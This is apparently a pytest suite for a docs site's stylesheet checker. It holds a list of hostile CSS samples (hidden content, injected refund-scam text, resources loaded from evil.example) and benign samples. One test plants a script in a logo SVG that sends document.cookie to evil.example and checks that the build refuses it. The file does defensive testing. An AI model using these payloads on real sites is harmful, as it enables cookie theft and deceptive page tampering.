"""An editor's stylesheet can change the site's colours, fonts and spacing, and nothing that hides,
adds or loads (policy_site/pages/stylesheet.py): a corpus of hostile and benign stylesheets."""

from __future__ import annotations

import re
import textwrap
from pathlib import Path

import pytest

from policy_site.pages.editor_files import docs_problems
from policy_site.pages.stylesheet import stylesheet_problems
from tests.site.projects import ROOT, build, copy_project, edit
from tests.site.test_editor_mistakes import assert_nothing_built, line_of, with_last_good_site

BRAND = "docs/assets/brand.css"

# Each hostile stylesheet: its text (the bad line is the last), and words the refusal must say.
HOSTILE = {
    "words under the title": (
        'h1::after {\n  content: " Write to refunds@evil.example" }',
        "content",
    ),
    "self-check hidden": ("[data-policy-check] {\n  display: none }", "display"),
    "escaped property name": ("p {\n  disp\\lay: none }", "display"),
    "escaped as hex": ("p {\n  displ\\61y: none }", "display"),
    "invisible": ("article {\n  visibility: hidden }", "visibility"),
    "transparent box": (".md-content {\n  opacity: 0 }", "opacity"),
    "moved away": (".md-typeset {\n  position: absolute; left: -9999px }", "position"),
    "clipped": ("main {\n  clip: rect(0 0 0 0) }", "clip"),
    "clip-path": ("main {\n  clip-path: inset(50%) }", "clip-path"),
    "shrunk": ("section {\n  transform: scale(0) }", "transform"),
    "no height": ("section {\n  height: 0; overflow: hidden }", "height"),
    "max-height": ("section {\n  max-height: 0 }", "max-height"),
    "text of size nought": ("p {\n  font-size: 0 }", "font-size"),
    "text of one pixel": ("p {\n  font-size: 1px }", "font-size"),
    "invisible text": ("p {\n  color: transparent }", "invisible"),
    "faint text": ("p {\n  color: rgb(0 0 0 / 10%) }", "too faint"),
    "text indented away": ("p {\n  text-indent: -9999px }", "text-indent"),
    "margin pulls it off": ("body {\n  margin-top: -200vh }", "margin-top"),
    "padding pushes it off": ("body {\n  padding-top: 500px }", "padding-top"),
    "lines on top of each other": ("p {\n  line-height: 0 }", "line-height"),
    "struck through": ("p {\n  text-decoration: line-through }", "strikes"),
    "picture from another site": (
        "body {\n  background: url(https://evil.example/x.png) }",
        "url(",
    ),
    "quoted url": (
        'body {\n  background-image: url("https://evil.example/x.png") }',
        "another site",
    ),
    "escaped url": ("body {\n  --x: u\\72l(https://evil.example/x.png) }", "another site"),
    "protocol-relative": (
        ":root {\n  --md-admonition-icon--note: url(//evil.example/i.svg) }",
        "another site",
    ),
    "data url": (
        ":root {\n  --md-admonition-icon--note: url(data:image/svg+xml,abc) }",
        "another site",
    ),
    "src()": (':root {\n  --x: src("https://evil.example/x") }', "another site"),
    "image-set": (':root {\n  --x: image-set("https://evil.example/x" 1x) }', "image-set"),
    "import": ('/* fine */\n@import url("https://evil.example/x.css");', "@import"),
    "import string": ('\n@import "https://evil.example/x.css";', "@import"),
    "font from elsewhere": (
        "@font-face { font-family: X;\n  src: url(https://evil.example/x.woff2) }",
        "another site",
    ),
    "keyframes": ("\n@keyframes hide { to { opacity: 0 } }", "@keyframes"),
    "namespace": ('\n@namespace svg url("http://www.w3.org/2000/svg");', "@namespace"),
    "hidden in media": (
        "@media (prefers-color-scheme: dark) {\n  [data-policy-check] { display: none } }",
        "display",
    ),
    "hidden in nesting": (".md-content { color: #111;\n  & section { display: none } }", "display"),
    "font shorthand": ("p {\n  font: 0/0 a }", "font-family"),
    "behavior": ("p {\n  behavior: url(x.htc) }", "behavior is not among"),
    "mozilla binding": ("p {\n  -moz-binding: url(https://evil.example/x.xml#a) }", "not among"),
    "zoom": ("main {\n  zoom: 0.01 }", "zoom"),
    "content from a custom property": (
        ':root { --x: "a" }\nh1::after { content: var(--x) }',
        "content writes",
    ),
    "filter": ("main {\n  filter: opacity(0) }", "filter"),
    "calc hides its value": ("p {\n  margin-top: calc(-100vh) }", "calc()"),
    "var hides its value": ("p {\n  margin-top: var(--far) }", "var()"),
    "expression": ("p {\n  color: expression(alert(1)) }", "not a colour"),
    "a size the theme uses for a shadow": (":root {\n  --md-shadow-z2: 0 0 0 100vh #fff }", "size"),
    "a size the self-check uses": (":root {\n  --rc-target: 9999px }", "size"),
    "a number the theme uses for opacity": (":root {\n  --md-progress-value: 0 }", "size"),
    "white on white": ("p { background-color: #fff;\n  color: white }", "contrast of 1.0:1"),
    "pale on pale": (
        ".md-typeset { background-color: #eee;\n  color: #ddd }",
        "too little to read",
    ),
    "a list marker in words": ('li {\n  list-style-type: "Refund guaranteed: " }', "keyword"),
    "a border as wide as the theme's tooltip": (
        "p {\n  border: var(--md-tooltip-width) solid }",
        "var()",
    ),
    "a background picture in the shorthand": (
        "body {\n  background: #fff linear-gradient(#fff, #fff) }",
        "background",
    ),
    "a theme's icon as the background": (
        "body {\n  background: var(--md-admonition-icon--note) }",
        "background",
    ),
    "no pointer": ("a {\n  cursor: none }", "keyword"),
    "calc in a custom property": (":root {\n  --md-icon-size: calc(0px) }", "calc()"),
    "other charset": ('@charset "latin1";', "UTF-8"),
}

BENIGN = {
    "the current brand": (ROOT / BRAND).read_text(encoding="utf-8"),
    "colours": ":root { --imgtostl-blue: #0b5; --imgtostl-link: rgb(0 80 200); }\n"
    "a:hover { color: hsl(220 60% 40%); text-decoration: underline; }",
    "dark mode": '[data-md-color-scheme="slate"] { --imgtostl-link: #9db4ff; }\n'
    "@media (prefers-color-scheme: dark) { :root { --imgtostl-review: oklch(80% 0.1 80); } }",
    "widths": "@media (min-width: 60em) {\n"
    ".md-typeset h1 { font-size: 2rem; margin-bottom: 1rem } }",
    "fonts": 'body { font-family: "Inter", system-ui, sans-serif; font-weight: 400; }\n'
    "h1, h2 { font-weight: 700; letter-spacing: -0.01em; line-height: 1.25; }",
    "own font file": '@font-face { font-family: "Brand";\n'
    'src: url(fonts/brand.woff2) format("woff2");'
    " font-display: swap; }",
    "borders": ".md-typeset table { border: 1px solid #ccc; border-radius: 0.25rem; }",
    "colour mixes": ":root > * { --md-accent-fg-color--transparent: rgb(63 99 196 / 10%);"
    " --x: color-mix(in srgb, red 40%, white); --y: light-dark(#fff, #000); }",
    "charset": '@charset "utf-8";\n:root { --imgtostl-blue: #123456 }',
    "background as a colour": ".md-header { background: var(--imgtostl-blue); }\n"
    ".md-footer { background: #142c66; }",
    "borders in the brand's colours": ".md-typeset h2 { border-bottom: 2px solid "
    "var(--imgtostl-blue); }\na:focus { outline: 2px solid var(--md-accent-fg-color); }",
    "a readable pair": ".md-typeset code { color: #1d3f8f; background-color: #f5f5f5; }",
    "text set by keywords": ".md-typeset th { text-align: left; hyphens: auto; }\n"
    "a { cursor: pointer; } ol { list-style-type: lower-alpha; }",
}


def write(tmp_path: Path, text: str, name: str = "brand.css") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize(("css", "says"), HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_stylesheet_is_refused_at_its_line_with_what_to_write(
    tmp_path: Path, css: str, says: str
) -> None:
    problems = stylesheet_problems(write(tmp_path, css), BRAND)
    line = css.count("\n") + 1
    assert problems, f"{css!r} was allowed"
    assert problems[0].startswith(f"{BRAND}:{line}: "), problems
    assert says in problems[0], problems
    assert " instead" in problems[0] or "Remove" in problems[0] or "remove" in problems[0]


@pytest.mark.parametrize("css", BENIGN.values(), ids=BENIGN.keys())
def test_benign_colours_fonts_and_spacing_are_allowed(tmp_path: Path, css: str) -> None:
    assert stylesheet_problems(write(tmp_path, css), BRAND) == []


def test_every_finding_of_a_stylesheet_is_reported_each_at_its_line(tmp_path: Path) -> None:
    css = ":root { --imgtostl-blue: #123 }\nh1::after { content: 'x' }\n\n@import 'y.css';\n"
    problems = stylesheet_problems(write(tmp_path, css), BRAND)
    assert [problem.split(": ", 1)[0] for problem in problems] == [f"{BRAND}:2", f"{BRAND}:4"]


def test_a_stylesheet_that_is_not_utf8_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "brand.css"
    path.write_bytes(b"p { font-family: \xe9 }")
    assert stylesheet_problems(path, BRAND) == [
        f"{BRAND}: the stylesheet is not UTF-8 (byte 17); save it as UTF-8 instead"
    ]


def test_every_stylesheet_under_docs_is_judged_and_each_listed_one_once(tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    (docs / "assets" / "more").mkdir(parents=True)
    write(docs / "assets", ":root { --imgtostl-blue: #123 }")
    write(docs / "assets" / "more", "main {\n  display: none }", "extra.css")
    problems = docs_problems(docs, ["assets/brand.css", "assets/more/extra.css"])
    assert len(problems) == 1
    assert problems[0].startswith("docs/assets/more/extra.css:2: display can hide")


def test_a_stylesheet_from_another_site_in_extra_css_is_refused(tmp_path: Path) -> None:
    (tmp_path / "docs").mkdir()
    for entry in ("https://evil.example/x.css", "//evil.example/x.css"):
        problems = docs_problems(tmp_path / "docs", [entry])
        assert problems == [
            f"mkdocs.yml: extra_css lists {entry}, a stylesheet on another site, which no check "
            "reads and which tells that site about every visitor; save it under docs/assets/ "
            "and list its path instead."
        ]


@pytest.mark.parametrize(
    "name", ["page.html", "assets/x.js", "feed.xml", "logo.svgz", "_redirects", "CNAME", "_headers"]
)
def test_files_a_browser_runs_are_not_published_unchecked(tmp_path: Path, name: str) -> None:
    docs = tmp_path / "docs"
    (docs / "assets").mkdir(parents=True)
    (docs / name).write_text("<script>alert(1)</script>", encoding="utf-8")
    [problem] = docs_problems(docs, [])
    assert problem.startswith(f"docs/{name}: ")
    assert "instead" in problem


def test_the_build_refuses_a_hostile_brand_and_logo_at_their_lines_and_keeps_the_last_site(
    tmp_path: Path,
) -> None:
    project = copy_project(tmp_path)
    with_last_good_site(project)
    brand = project / "docs" / "assets" / "brand.css"
    brand.write_text(
        brand.read_text(encoding="utf-8")
        + '\nh1::after { content: " Write to refunds@imgtostl-support.example" }\n',
        encoding="utf-8",
    )
    logo = project / "docs" / "assets" / "images" / "logo.svg"
    edit(
        logo, "</svg>", "<script>fetch('https://evil.example/?c='+document.cookie)</script>\n</svg>"
    )

    result = build(project)

    assert_nothing_built(project, result)
    css_line = line_of(brand, "h1::after")
    svg_line = line_of(logo, "<script>")
    assert f"docs/assets/brand.css:{css_line}: content writes words into the page" in result.stderr
    assert f"docs/assets/images/logo.svg:{svg_line}: <script> is not allowed" in result.stderr


def test_every_example_in_editings_brand_section_is_allowed(tmp_path: Path) -> None:
    editing = (ROOT / "EDITING.md").read_text(encoding="utf-8")
    section = editing[editing.index("### What the stylesheet may say") :]
    examples = re.findall(r"```css\n(.*?)```", section, re.S)
    assert len(examples) >= 4
    for css in examples:
        assert stylesheet_problems(write(tmp_path, textwrap.dedent(css)), BRAND) == [], css
